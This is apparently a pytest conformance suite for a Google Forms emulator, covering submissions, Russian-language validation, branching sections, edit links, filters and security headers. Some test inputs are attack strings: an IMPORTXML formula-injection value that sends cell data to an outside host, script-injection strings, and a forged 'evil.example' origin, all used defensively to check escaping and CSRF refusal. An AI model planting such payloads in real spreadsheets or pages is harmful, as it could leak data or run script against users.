"""Answers come in by the respondent's page alone, and are read back by the API."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from googleapiclient.errors import HttpError

from sheets_sync.emulator.core import request_of
from tests.conformance.forms.school import BASE, School, choice, question, section, text

NAME, CLASS, BORN = "0000000a", "0000000b", "0000000c"


def simple(school: School) -> str:
    return school.form(
        question(NAME, "ФИО", required=True, textQuestion={}),
        choice(CLASS, "5А", "5Б", kind="DROP_DOWN"),
        question(BORN, "Дата рождения", dateQuestion={"includeYear": True}),
    )


def code_of(request: Any) -> int:
    with pytest.raises(HttpError) as caught:
        request()
    code: int = json.loads(caught.value.content)["error"]["code"]
    return code


def test_a_submission_is_one_response_with_its_time(school: School) -> None:
    form_id = simple(school)
    sent = school.fill(
        form_id, {f"entry.{NAME}": "Яблочкина Анна", "entry.11": "5А", "entry.12": "2011-05-19"}
    )
    assert sent.status == 200
    assert "Ваш ответ записан" in text(sent)
    [response] = school.responses(form_id)
    assert "formId" not in response
    assert response["createTime"] == response["lastSubmittedTime"] == "2022-09-20T09:00:00Z"
    assert school.answers(form_id) == [{NAME: ["Яблочкина Анна"], CLASS: ["5А"], BORN: ["2011-05-19"]}]
    single = school.forms.responses().get(formId=form_id, responseId=response["responseId"]).execute()
    assert single == {"formId": form_id, **response}


def test_the_published_id_and_multipart_are_taken_too(school: School) -> None:
    form_id = simple(school)
    uri = school.forms.get(formId=form_id).execute()["responderUri"]
    path = uri.removeprefix(BASE).replace("viewform", "formResponse")
    body = (
        f'--x\r\nContent-Disposition: form-data; name="entry.{NAME}"\r\n\r\nПетров\r\n'
        '--x\r\nContent-Disposition: form-data; name="entry.11"\r\n\r\n5Б\r\n--x--\r\n'
    )
    headers = {"content-type": "multipart/form-data; boundary=x"}
    assert school.workspace.handle(request_of("POST", BASE + path, headers, body)).status == 200
    assert school.answers(form_id) == [{NAME: ["Петров"], CLASS: ["5Б"]}]


@pytest.mark.parametrize(
    "value",
    [
        '=IMPORTXML("http://x/?"&A1,"//a")',
        "  два  пробела  ",
        "+7 921 000-00-00",
        "007",
        "строка\r\nещё строка\nи ещё",
        "\t\x01\ufeff\u202e\u200d",
        "👩‍👩‍👧 е\u0301 ё",
        "<script>alert(1)</script>",
        "я" * 100_000,
    ],
)
def test_text_is_kept_byte_for_byte(school: School, value: str) -> None:
    form_id = simple(school)
    assert school.fill(form_id, {f"entry.{NAME}": value}).status == 200
    assert school.answers(form_id) == [{NAME: [value]}]


def test_nul_is_dropped_and_broken_utf8_is_replaced(school: School) -> None:
    form_id = simple(school)
    body = f"entry.{NAME}=%00A%ff%ed%a0%80"
    headers = {"content-type": "application/x-www-form-urlencoded"}
    path = f"{BASE}/forms/d/e/{form_id}/formResponse"
    assert school.workspace.handle(request_of("POST", path, headers, body)).status == 200
    assert school.answers(form_id) == [{NAME: ["A" + "\ufffd" * 4]}]


@pytest.mark.parametrize(
    ("fields", "told"),
    [
        ({}, "Это обязательный вопрос."),
        ({f"entry.{NAME}": "   "}, "Это обязательный вопрос."),
        ({f"entry.{NAME}": "А", f"entry.{CLASS}": "12Я"}, "Выберите вариант из списка."),
        ({f"entry.{NAME}": "А", f"entry.{CLASS}": ["5А", "5Б"]}, "Выберите только один вариант."),
        ({f"entry.{NAME}": "А", f"entry.{BORN}": "2011-02-29"}, "Такой даты нет."),
        ({f"entry.{NAME}": "А", f"entry.{BORN}": "05/12/2011"}, "Такой даты нет."),
    ],
)
def test_a_wrong_answer_is_told_in_russian_and_not_stored(
    school: School, fields: dict[str, Any], told: str
) -> None:
    form_id = simple(school)
    answer = school.fill(form_id, fields)
    assert answer.status == 400
    assert told in text(answer)
    assert school.responses(form_id) == []


@pytest.mark.parametrize(
    ("kind", "fields", "value"),
    [
        (
            {"dateQuestion": {"includeYear": True}},
            {"_year": "2011", "_month": "5", "_day": "9"},
            "2011-05-09",
        ),
        ({"dateQuestion": {"includeYear": True}}, {"": "09.05.2011"}, "2011-05-09"),
        ({"dateQuestion": {}}, {"_month": "5", "_day": "19"}, "05-19"),
        ({"dateQuestion": {"includeTime": True}}, {"": "05-19 14:51"}, "05-19 14:51"),
        (
            {"dateQuestion": {"includeYear": True, "includeTime": True}},
            {"": "1986-05-19T14:51"},
            "1986-05-19 14:51",
        ),
        ({"timeQuestion": {}}, {"": "14:51"}, "14:51"),
        ({"timeQuestion": {"duration": True}}, {"_hour": "1", "_minute": "5"}, "01:05"),
        ({"scaleQuestion": {"high": 5}}, {"": "0"}, "0"),
        ({"ratingQuestion": {"ratingScaleLevel": 5, "iconType": "HEART"}}, {"": "5"}, "5"),
    ],
)
def test_values_are_written_as_the_reference_says(
    school: School, kind: dict[str, Any], fields: dict[str, str], value: str
) -> None:
    form_id = school.form(question(NAME, **kind))
    assert (
        school.fill(form_id, {f"entry.{NAME}{suffix}": part for suffix, part in fields.items()}).status == 200
    )
    assert school.answers(form_id) == [{NAME: [value]}]


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ({"dateQuestion": {"includeYear": True}}, "19.05"),
        ({"timeQuestion": {}}, "24:00"),
        ({"timeQuestion": {"duration": True}}, "73:00"),
        ({"scaleQuestion": {"low": 1, "high": 5}}, "6"),
        ({"ratingQuestion": {"ratingScaleLevel": 5, "iconType": "STAR"}}, "0"),
    ],
)
def test_values_out_of_range_are_refused(school: School, kind: dict[str, Any], value: str) -> None:
    form_id = school.form(question(NAME, **kind))
    assert school.fill(form_id, {f"entry.{NAME}": value}).status == 400
    assert school.responses(form_id) == []


def test_checkboxes_give_several_values_and_other_its_own_words(school: School) -> None:
    form_id = school.form(choice(NAME, "математика", "физика", {"isOther": True}, kind="CHECKBOX"))
    sent = [
        (f"entry.{NAME}", "физика"),
        (f"entry.{NAME}", "__other_option__"),
        (f"entry.{NAME}.other_option_response", "шахматы"),
    ]
    assert school.fill(form_id, sent).status == 200
    assert school.answers(form_id) == [{NAME: ["физика", "шахматы"]}]


def test_other_without_words_is_refused(school: School) -> None:
    form_id = school.form(choice(NAME, "да", {"isOther": True}))
    assert "Впишите свой вариант." in text(school.fill(form_id, {f"entry.{NAME}": "__other_option__"}))


def test_each_row_of_a_grid_answers_for_itself(school: School) -> None:
    rows = [
        {"questionId": NAME, "rowQuestion": {"title": "пн"}},
        {"questionId": CLASS, "rowQuestion": {"title": "вт"}},
    ]
    columns = {"type": "CHECKBOX", "options": [{"value": "очно"}, {"value": "онлайн"}]}
    form_id = school.form(
        {"title": "Когда?", "questionGroupItem": {"questions": rows, "grid": {"columns": columns}}}
    )
    assert (
        school.fill(form_id, [("entry.10", "очно"), ("entry.10", "онлайн"), ("entry.11", "онлайн")]).status
        == 200
    )
    assert school.answers(form_id) == [{NAME: ["очно", "онлайн"], CLASS: ["онлайн"]}]
    assert school.fill(form_id, {"entry.10": "письмом"}).status == 400


def branching(school: School) -> str:
    form_id = school.form(section("000000f1", "Ученик"), section("000000f2", "Педагог"))
    school.change(
        form_id,
        {
            "createItem": {
                "item": question(CLASS, "Класс", required=True, textQuestion={}),
                "location": {"index": 1},
            }
        },
        {
            "createItem": {
                "item": question(BORN, "Предмет", required=True, textQuestion={}),
                "location": {"index": 3},
            }
        },
        {
            "createItem": {
                "item": choice(
                    NAME,
                    {"value": "ученик", "goToSectionId": "000000f1"},
                    {"value": "педагог", "goToSectionId": "000000f2"},
                    {"value": "никто", "goToAction": "SUBMIT_FORM"},
                    {"value": "сначала", "goToAction": "RESTART_FORM"},
                    required=True,
                ),
                "location": {"index": 0},
            }
        },
    )
    return form_id


def test_only_sections_on_the_respondents_way_are_required_and_kept(school: School) -> None:
    form_id = branching(school)
    passed_by = {"entry.10": "педагог", "entry.11": "6В", "entry.12": "физика"}
    assert school.fill(form_id, passed_by).status == 200
    assert school.fill(form_id, {"entry.10": "никто"}).status == 200
    assert school.fill(form_id, {"entry.10": "педагог"}).status == 400
    assert sorted(school.answers(form_id), key=len) == [
        {NAME: ["никто"]},
        {NAME: ["педагог"], BORN: ["физика"]},
    ]


def test_a_way_that_turns_in_a_circle_cannot_be_submitted(school: School) -> None:
    form_id = branching(school)
    assert school.fill(form_id, {"entry.10": "сначала"}).status == 400
    assert school.responses(form_id) == []


def test_the_page_leads_through_the_sections_as_the_answers_choose(school: School) -> None:
    form_id = branching(school)
    path = f"/forms/d/e/{form_id}/formResponse"
    first = text(school.get(f"/forms/d/e/{form_id}/viewform"))
    assert "Педагог" not in first and "Далее" in first
    second = text(school.post(path, {"page": "0", "way": "", "step": "next", "entry.10": "педагог"}))
    assert "Предмет" in second and "Класс" not in second and "Отправить" in second
    kept = dict(re.findall(r'type="hidden" name="([^"]+)" value="([^"]*)"', second))
    key = kept["sent"]  # one filling, one answer: the key that the button carries twice when pressed twice
    assert re.fullmatch(r"[\w-]{16,}", key)
    assert kept == {"page": "2", "way": "0", "entry.10": "педагог", "sent": key}
    back = text(school.post(path, {**kept, "step": "back", "entry.12": "физика"}))
    assert re.search(r'value="педагог" checked', back)
    assert school.responses(form_id) == []
    assert school.post(path, {**kept, "step": "submit", "entry.12": "физика"}).status == 200
    assert school.answers(form_id) == [{NAME: ["педагог"], BORN: ["физика"]}]


def test_the_next_page_is_not_shown_before_the_present_one_is_right(school: School) -> None:
    form_id = branching(school)
    answer = school.post(f"/forms/d/e/{form_id}/formResponse", {"page": "0", "step": "next"})
    assert answer.status == 400
    assert "Это обязательный вопрос." in text(answer)


def test_an_answer_that_ends_the_form_early_is_sent_by_a_button_of_its_own(school: School) -> None:
    form_id = branching(school)
    path = f"/forms/d/e/{form_id}/formResponse"
    page = text(school.post(path, {"page": "0", "step": "next", "entry.10": "никто"}))
    assert "Вопросы закончились" in page
    assert school.post(path, {"page": "-1", "way": "0", "step": "submit", "entry.10": "никто"}).status == 200
    assert school.answers(form_id) == [{NAME: ["никто"]}]


@pytest.mark.parametrize("state", [(False, False), (True, False)])
def test_a_closed_form_stores_nothing_and_says_so(school: School, state: tuple[bool, bool]) -> None:
    form_id = simple(school)
    school.publish(form_id, published=state[0], accepting=state[1])
    for answer in (
        school.fill(form_id, {f"entry.{NAME}": "А"}),
        school.get(f"/forms/d/e/{form_id}/viewform"),
    ):
        assert answer.status == 403
        assert "Форма больше не принимает ответы" in text(answer)
    assert school.responses(form_id) == []


def test_a_form_in_the_bin_takes_no_answers(school: School) -> None:
    form_id = simple(school)
    school.drive.files().update(fileId=form_id, body={"trashed": True}).execute()
    assert school.fill(form_id, {f"entry.{NAME}": "А"}).status == 403


def test_an_edit_link_appears_only_when_the_owner_clicked_the_switch(school: School) -> None:
    form_id = simple(school)
    assert "edit2=" not in text(school.fill(form_id, {f"entry.{NAME}": "А"}))
    done = school.staff_post(
        f"/forms/d/{form_id}/edit", {"edit_after_submit": "on", "confirmation": "Спасибо!"}
    )
    assert done.status == 303
    sent = text(school.fill(form_id, {f"entry.{NAME}": "Б"}))
    assert "edit2=" in sent and "Спасибо!" in sent


def test_an_edit_keeps_the_id_and_the_first_time_and_moves_the_last(school: School) -> None:
    form_id = simple(school)
    school.staff_post(f"/forms/d/{form_id}/edit", {"edit_after_submit": "on"})
    link = re.search(
        r'href="([^"]*edit2=([^"]+))"', text(school.fill(form_id, {f"entry.{NAME}": "Ива", "entry.11": "5А"}))
    )
    assert link
    [before] = school.responses(form_id)
    school.later(hours=3)
    shown = text(school.get(link[1]))
    assert 'value="Ива"' in shown and '<option value="5А" selected>' in shown
    assert school.fill(form_id, {f"entry.{NAME}": "Иванова", "edit2": link[2]}).status == 200
    [after] = school.responses(form_id)
    assert after["responseId"] == before["responseId"]
    assert (after["createTime"], after["lastSubmittedTime"]) == (
        "2022-09-20T09:00:00Z",
        "2022-09-20T12:00:00Z",
    )
    assert school.answers(form_id) == [{NAME: ["Иванова"]}]


def test_an_edit_link_dies_with_the_switch_and_with_the_response(school: School) -> None:
    form_id = simple(school)
    school.staff_post(f"/forms/d/{form_id}/edit", {"edit_after_submit": "on"})
    link = re.search(r"edit2=([^\"]+)\"", text(school.fill(form_id, {f"entry.{NAME}": "А"})))
    assert link
    school.staff_post(f"/forms/d/{form_id}/edit", {})
    assert school.fill(form_id, {f"entry.{NAME}": "Б", "edit2": link[1]}).status == 403
    assert school.answers(form_id) == [{NAME: ["А"]}]


def test_the_owner_deletes_a_response_by_a_button(school: School) -> None:
    form_id = simple(school)
    school.fill(form_id, {f"entry.{NAME}": "А"})
    [response] = school.responses(form_id)
    path, fields = f"/forms/d/{form_id}/deleteResponse", {"responseId": response["responseId"]}
    assert school.post(path, fields).status == 403
    assert len(school.responses(form_id)) == 1
    assert school.staff_post(path, fields, page=f"/forms/d/{form_id}/edit").status == 303
    assert school.responses(form_id) == []
    get = school.forms.responses().get(formId=form_id, responseId=response["responseId"])
    assert code_of(get.execute) == 404


def test_a_prefilled_link_fills_the_page(school: School) -> None:
    form_id = simple(school)
    assert 'value="П-014"' in text(
        school.get(f"/forms/d/e/{form_id}/viewform?usp=pp_url&entry.10=%D0%9F-014")
    )


def test_an_address_is_asked_and_shown_only_when_the_form_collects_it(school: School) -> None:
    form_id = simple(school)
    change = {"updateSettings": {"settings": {"emailCollectionType": "RESPONDER_INPUT"}, "updateMask": "*"}}
    school.change(form_id, change)
    for wrong in ("", "нет", "a@b,c@d"):
        assert school.fill(form_id, {f"entry.{NAME}": "А", "emailAddress": wrong}).status == 400
    assert school.fill(form_id, {f"entry.{NAME}": "А", "emailAddress": "a@example.org"}).status == 200
    [response] = school.responses(form_id)
    assert response["respondentEmail"] == "a@example.org"


def test_pages_hold_every_response_once_and_are_bound_to_their_filter(school: School) -> None:
    form_id = simple(school)
    for number in range(7):
        school.fill(form_id, {f"entry.{NAME}": str(number)})
        school.later(milliseconds=1)
    seen, token = [], None
    api = school.forms.responses()
    while True:
        page = api.list(formId=form_id, pageSize=3, pageToken=token).execute()
        seen += [one["answers"][NAME]["textAnswers"]["answers"][0]["value"] for one in page["responses"]]
        token = page.get("nextPageToken")
        if not token:
            break
        assert len(page["responses"]) == 3
        other = api.list(formId=form_id, pageToken=token, filter="timestamp > 2022-01-01T00:00:00Z")
        assert code_of(other.execute) == 400
    assert seen == [str(number) for number in range(7)]


@pytest.mark.parametrize(
    ("text_of_filter", "found"),
    [
        ("timestamp > 2022-09-20T09:00:00Z", ["б"]),
        ("timestamp >= 2022-09-20T09:00:00Z", ["а", "б"]),
        ("timestamp >= 2022-09-20T09:00:00.000000001Z", ["б"]),
        ("timestamp > 2022-09-20T08:59:59.999999999Z", ["а", "б"]),
        ("timestamp > 2022-09-20T09:00:00.500Z", []),
    ],
)
def test_the_filter_compares_the_last_submission(
    school: School, text_of_filter: str, found: list[str]
) -> None:
    form_id = simple(school)
    school.fill(form_id, {f"entry.{NAME}": "а"})
    school.later(milliseconds=500)
    school.fill(form_id, {f"entry.{NAME}": "б"})
    listed = school.responses(form_id, filter=text_of_filter)
    assert [one["answers"][NAME]["textAnswers"]["answers"][0]["value"] for one in listed] == found


@pytest.mark.parametrize(
    "wrong",
    [
        "timestamp < 2022-09-20T09:00:00Z",
        "timestamp > 2022-09-20",
        "timestamp > 2022-13-20T09:00:00Z",
        "a = 1",
    ],
)
def test_other_filters_are_refused(school: School, wrong: str) -> None:
    form_id = simple(school)
    assert code_of(school.forms.responses().list(formId=form_id, filter=wrong).execute) == 400


def test_script_in_a_title_or_an_answer_is_shown_as_text(school: School) -> None:
    evil = '"><script>alert(1)</script>'
    form_id = school.form(question(NAME, evil, textQuestion={}), section("000000f1", evil))
    school.fill(form_id, {f"entry.{NAME}": evil})
    path = f"/forms/d/e/{form_id}/formResponse"
    for page in (
        school.get(f"/forms/d/e/{form_id}/viewform"),
        school.get(f"/forms/d/{form_id}/edit"),
        school.post(path, {"page": "0", "step": "next", f"entry.{NAME}": evil}),
    ):
        assert "<script" not in text(page)
        assert "default-src 'none'" in page.headers["content-security-policy"]
        assert "unsafe" not in page.headers["content-security-policy"]


def test_posts_from_foreign_pages_are_refused(school: School) -> None:
    form_id = simple(school)
    path, fields = f"/forms/d/e/{form_id}/formResponse", {f"entry.{NAME}": "А"}
    for headers in ({"origin": "null"}, {"origin": "http://evil.example"}, {"sec-fetch-site": "cross-site"}):
        assert school.post(path, fields, headers).status == 403
    assert school.get(path).status == 405
    assert school.post(path, {f"entry.{NAME}": "А" * (9 * 2**20)}).status == 413
    assert school.responses(form_id) == []
    assert school.post(path, fields, {"origin": "http://127.0.0.1:8080"}).status == 200


def test_a_copy_has_the_questions_but_no_answers_and_is_unpublished(school: School) -> None:
    form_id = simple(school)
    school.fill(form_id, {f"entry.{NAME}": "А"})
    copy_id = school.drive.files().copy(fileId=form_id, body={"name": "Копия"}).execute()["id"]
    copied = school.forms.get(formId=copy_id).execute()
    assert copied["info"]["documentTitle"] == "Копия"
    assert copied["items"] == school.forms.get(formId=form_id).execute()["items"]
    assert copied["publishSettings"] == {"publishState": {}}
    assert school.responses(copy_id) == []


def test_renaming_the_file_renames_the_document_title_and_deleting_it_ends_the_form(school: School) -> None:
    form_id = simple(school)
    school.drive.files().update(fileId=form_id, body={"name": "Ф1"}).execute()
    assert school.forms.get(formId=form_id).execute()["info"]["documentTitle"] == "Ф1"
    school.drive.files().delete(fileId=form_id).execute()
    assert code_of(school.forms.get(formId=form_id).execute) == 404
    assert school.fill(form_id, {f"entry.{NAME}": "А"}).status == 404
